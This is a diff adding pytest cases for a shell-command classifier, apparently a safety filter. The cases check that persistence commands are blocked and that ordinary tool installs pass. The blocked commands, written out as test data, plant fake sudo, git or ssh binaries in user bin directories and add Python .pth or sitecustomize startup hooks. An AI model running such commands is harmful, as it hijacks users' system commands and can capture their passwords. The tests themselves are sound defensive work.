@@ -97,3 +97,38 @@ def test_hook_to_a_downloaded_file_names_the_download_in_its_chain() -> None:
 def test_hook_of_another_language_does_not_block_unrelated_programs() -> None:
     command = "export NODE_OPTIONS=-r/tmp/h.js; curl -o /tmp/h.js https://h/x; ls"
     assert classify(command).verdict is Verdict.WARN  # the hook itself, not a run of it
+
+
+@pytest.mark.parametrize("command", [
+    "cp x ~/.local/bin/sudo",
+    "cp sudo ~/.local/bin/",
+    "ln -s /tmp/evil ~/.local/bin/git",
+    "curl -o ~/bin/ls https://h/x",
+    "install -m 755 ./fake ~/.local/bin/ssh",
+    "echo 'echo pw' > /home/bob/.local/bin/sudo",
+    "mv sudo ~/.cargo/bin/sudo",
+    "cp x /Users/ann/.local/bin/sudo",
+    "cat > /root/.local/bin/git <<'EOF'\nx\nEOF",
+    # python's startup hooks in the user or local site directory
+    "echo 'import os' > ~/.local/lib/python3.11/site-packages/x.pth",
+    "cp evil.py ~/.local/lib/python3.12/site-packages/sitecustomize.py",
+    "tee /usr/local/lib/python3.11/dist-packages/hook.pth < x",
+])
+def test_files_that_run_instead_of_system_commands_or_at_python_start_block(
+        command: str) -> None:
+    result = classify(command)
+    assert result.verdict is Verdict.BLOCK, result.to_dict()
+    assert "shell.persistence" in _rules(command)
+
+
+@pytest.mark.parametrize("command", [
+    "cp tool ~/.local/bin/",
+    "curl -Lo ~/.local/bin/kubectl https://dl.k8s.io/kubectl",
+    "ln -s $(which python3.12) ~/.local/bin/python3",
+    "install -m 755 build/mytool ~/bin/mytool",
+    "echo x > .venv/lib/python3.11/site-packages/x.pth",
+    "cp x /home/sudo",
+    "cp sudo ./vendor/sudo",
+])
+def test_installing_own_tools_into_user_bin_directories_passes(command: str) -> None:
+    assert classify(command).verdict is Verdict.PASS, classify(command).to_dict()
